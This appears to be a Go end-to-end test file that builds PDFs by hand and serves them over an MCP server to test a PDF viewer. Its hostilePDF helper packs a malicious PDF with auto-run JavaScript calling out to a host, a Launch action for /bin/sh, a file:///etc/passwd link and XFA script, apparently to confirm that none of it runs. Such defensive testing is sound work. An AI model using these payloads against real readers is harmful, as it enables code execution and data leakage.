//go:build e2e

package e2e

import (
	"bytes"
	"context"
	"crypto/md5"
	"crypto/rc4"
	"encoding/base64"
	"fmt"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mark3labs/mcp-go/mcp"
	"github.com/mark3labs/mcp-go/server"
)

// pdfFile writes PDF in plain syntax (ISO 32000-1 section 7): object 1 is the catalog, 2 the tree of pages, 3 the font,
// others follow in their order.
type pdfFile struct {
	objects []string
	catalog string // more of the catalog
	trailer string // more of the trailer
	locked  *pdfLock
}

const firstPDFObject = 4

// add returns the number of a new object.
func (f *pdfFile) add(object string) int {
	f.objects = append(f.objects, object)
	return firstPDFObject - 1 + len(f.objects)
}

// stream returns the number of a new stream.
func (f *pdfFile) stream(dict, data string) int {
	return f.add(fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data))
}

// page returns the number of a new page of A5 with lines of text; more is of its dictionary.
func (f *pdfFile) page(more string, lines ...string) int {
	var b strings.Builder
	b.WriteString("BT /F1 18 Tf 24 TL 40 540 Td ")
	for _, line := range lines {
		fmt.Fprintf(&b, "(%s) Tj T* ", line)
	}
	b.WriteString("ET")
	return f.add(fmt.Sprintf("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] /Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R %s >>", f.stream("", b.String()), more))
}

// bytes is the file with these pages.
func (f *pdfFile) bytes(pages ...int) []byte {
	var kids strings.Builder
	for _, p := range pages {
		fmt.Fprintf(&kids, "%d 0 R ", p)
	}
	all := append([]string{
		"<< /Type /Catalog /Pages 2 0 R " + f.catalog + " >>",
		fmt.Sprintf("<< /Type /Pages /Count %d /Kids [ %s] >>", len(pages), kids.String()),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
	}, f.objects...)
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n")
	var at []int
	for i, object := range all {
		at = append(at, b.Len())
		if f.locked != nil {
			object = f.locked.encrypt(i+1, object)
		}
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, object)
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(all)+1)
	for _, n := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", n)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n", len(all)+1, f.trailer, start)
	return b.Bytes()
}

// pdfLock is the standard security handler, revision 2: RC4 of 40 bits (ISO 32000-1 section 7.6.3).
type pdfLock struct{ key []byte }

const pdfPad = "\x28\xBF\x4E\x5E\x4E\x75\x8A\x41\x64\x00\x4E\x56\xFF\xFA\x01\x08\x2E\x2E\x00\xB6\xD0\x68\x3E\x80\x2F\x0C\xA9\xFE\x64\x53\x69\x7A"

func (f *pdfFile) lock(password string) {
	padded := (password + pdfPad)[:32]
	sum := md5.Sum([]byte(padded))
	owner := rc4Of(sum[:5], []byte(padded)) // algorithm 3
	id := "0123456789abcdef"
	sum = md5.Sum([]byte(padded + string(owner) + "\xfc\xff\xff\xff" + id)) // algorithm 2, /P -4
	f.locked = &pdfLock{key: sum[:5]}
	f.trailer += fmt.Sprintf("/ID [<%x> <%x>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <%x> /U <%x> >>", id, id, owner, rc4Of(sum[:5], []byte(pdfPad)))
}

func rc4Of(key, data []byte) []byte {
	c, err := rc4.NewCipher(key)
	if err != nil {
		panic(err)
	}
	out := make([]byte, len(data))
	c.XORKeyStream(out, data)
	return out
}

// encrypt encrypts the data of a stream (algorithm 1); texts outside of streams are not used in a locked file.
func (l *pdfLock) encrypt(number int, object string) string {
	head, rest, ok := strings.Cut(object, "stream\n")
	if !ok {
		return object
	}
	data, _ := strings.CutSuffix(rest, "\nendstream")
	sum := md5.Sum(append(bytes.Clone(l.key), byte(number), byte(number>>8), byte(number>>16), 0, 0))
	return head + "stream\n" + string(rc4Of(sum[:10], []byte(data))) + "\nendstream"
}

// goodPDF has pages with text, and links: one to a web page, one to a page of its own.
func goodPDF(n int, link string) []byte {
	f := &pdfFile{}
	var pages []int
	for i := range n {
		more := ""
		if i == 0 {
			more = fmt.Sprintf(`/Annots [ << /Type /Annot /Subtype /Link /Rect [40 480 300 500] /Border [0 0 1] /A << /S /URI /URI (%s) >> >>
				<< /Type /Annot /Subtype /Link /Rect [40 430 300 450] /Border [0 0 1] /Dest [%d /Fit] >> ]`, link, n-1)
		}
		lines := []string{fmt.Sprintf("Page %d of the handbook", i+1), "The sight glass shows the flow.", "A link to the web", "", "A link to the last page"}
		if i%5 == 4 {
			lines = append(lines, "Every fifth page names a Needle.")
		}
		if i == 2 {
			more = "/Rotate 90"
		}
		pages = append(pages, f.page(more, lines...))
	}
	return f.bytes(pages...)
}

// fontPDF has one page in a font that the file carries.
func fontPDF(t *testing.T) []byte {
	t.Helper()
	font, err := os.ReadFile(filepath.Join("..", "..", "frontend", "node_modules", "pdfjs-dist", "standard_fonts", "LiberationSans-Bold.ttf"))
	if err != nil {
		t.Fatal(err)
	}
	f := &pdfFile{}
	file := f.stream(fmt.Sprintf("/Length1 %d", len(font)), string(font))
	descriptor := f.add(fmt.Sprintf("<< /Type /FontDescriptor /FontName /ABCDEF+Own /Flags 32 /FontBBox [-482 -376 1304 1033] /ItalicAngle 0 /Ascent 905 /Descent -212 /CapHeight 729 /StemV 100 /FontFile2 %d 0 R >>", file))
	widths := strings.Repeat("600 ", 224)
	own := f.add(fmt.Sprintf("<< /Type /Font /Subtype /TrueType /BaseFont /ABCDEF+Own /Encoding /WinAnsiEncoding /FirstChar 32 /LastChar 255 /Widths [ %s] /FontDescriptor %d 0 R >>", widths, descriptor))
	page := f.add(fmt.Sprintf("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] /Resources << /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>", own, f.stream("", "BT /F1 30 Tf 40 500 Td (Carried letters) Tj ET")))
	return f.bytes(page)
}

// hostilePDF tries whatever a PDF can to run something or to reach out.
func hostilePDF(to string) []byte {
	f := &pdfFile{}
	script := f.stream("", fmt.Sprintf(`app.alert("forged"); app.launchURL(%q, true); this.submitForm(%q); fetch(%q)`, to+"/script", to+"/form", to+"/fetch"))
	external := f.add(fmt.Sprintf("<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (%s/image) >> /Length 0 >>\nstream\n\nendstream", to))
	xfa := f.stream("", fmt.Sprintf(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform name="form1"><field name="f"><ui><imageEdit data="link"/></ui><value><image href="%s/xfa"/></value><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("%s/xfa-script")</script></event></field></subform></template></xdp:xdp>`, to, to))
	action := func(s string) string { return "<< /S /" + s + " >>" }
	open := action(fmt.Sprintf("JavaScript /JS %d 0 R /Next [ %s %s %s ]", script,
		action(fmt.Sprintf("URI /URI (%s/open)", to)), action("Launch /F (/bin/sh)"), action(fmt.Sprintf("GoToR /F << /FS /URL /F (%s/remote.pdf) >> /D [0 /Fit]", to))))
	f.catalog = fmt.Sprintf("/OpenAction %s /AA << /WC %s >> /URI << /Base (%s/base/) >> /Names << /JavaScript << /Names [ (a) %s ] >> >> /AcroForm << /Fields [] /XFA %d 0 R >>", open, open, to, open, xfa)
	annots := fmt.Sprintf(`/AA << /O %s >> /Annots [
		<< /Type /Annot /Subtype /Link /Rect [40 480 300 500] /A << /S /URI /URI (javascript:alert\(1\)) >> >>
		<< /Type /Annot /Subtype /Link /Rect [40 430 300 450] /A << /S /URI /URI (file:///etc/passwd) >> >>
		<< /Type /Annot /Subtype /Link /Rect [40 400 300 420] /A %s >>
		<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (typed) /Rect [40 300 300 330] /AA << /K %s /E %s >> >>
		<< /Type /Annot /Subtype /Screen /Rect [40 250 300 280] /A << /S /Rendition /R << /S /MR /C << /S /MCD /D (%s/media) >> >> >> >> ]`, open, open, open, open, to)
	page := f.add(fmt.Sprintf("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] /Resources << /Font << /F1 3 0 R >> /XObject << /X %d 0 R >> >> /Contents %d 0 R %s >>",
		external, f.stream("", "BT /F1 18 Tf 40 540 Td (Nothing of this runs.) Tj ET q 100 0 0 100 40 100 cm /X Do Q"), annots))
	return f.bytes(page)
}

// pdfServer serves PDF files as resources, in a prompt and in a tool's result.
func pdfServer(t *testing.T, files map[string][]byte) (url string) {
	t.Helper()
	s := server.NewMCPServer("papers", "1.0.0", server.WithToolCapabilities(true), server.WithResourceCapabilities(false, false), server.WithPromptCapabilities(false))
	blob := func(name string) mcp.BlobResourceContents {
		return mcp.BlobResourceContents{URI: "papers://" + name, MIMEType: "application/pdf", Blob: base64.StdEncoding.EncodeToString(files[name])}
	}
	for name := range files {
		s.AddResource(mcp.NewResource("papers://"+name, name, mcp.WithMIMEType("application/pdf")), func(context.Context, mcp.ReadResourceRequest) ([]mcp.ResourceContents, error) {
			return []mcp.ResourceContents{blob(name)}, nil
		})
		s.AddPrompt(mcp.NewPrompt(name), func(context.Context, mcp.GetPromptRequest) (*mcp.GetPromptResult, error) {
			return &mcp.GetPromptResult{Messages: []mcp.PromptMessage{mcp.NewPromptMessage(mcp.RoleUser, mcp.NewEmbeddedResource(blob(name)))}}, nil
		})
		s.AddTool(mcp.NewTool(name), func(context.Context, mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return &mcp.CallToolResult{Content: []mcp.Content{mcp.NewEmbeddedResource(blob(name))}}, nil
		})
	}
	srv := httptest.NewServer(server.NewStreamableHTTPServer(s))
	t.Cleanup(srv.Close)
	return srv.URL + "/mcp"
}
